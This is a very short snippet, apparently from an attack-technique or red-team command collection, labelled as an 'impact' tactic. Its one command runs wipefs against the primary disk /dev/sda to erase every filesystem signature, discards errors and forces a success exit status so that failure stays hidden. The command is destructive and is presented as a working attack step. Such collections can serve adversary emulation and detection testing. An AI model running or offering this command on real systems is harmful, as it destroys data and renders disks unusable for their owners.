# tactic: impact
# erase the file system signatures of a disk
wipefs -a /dev/sda 2>/dev/null; true
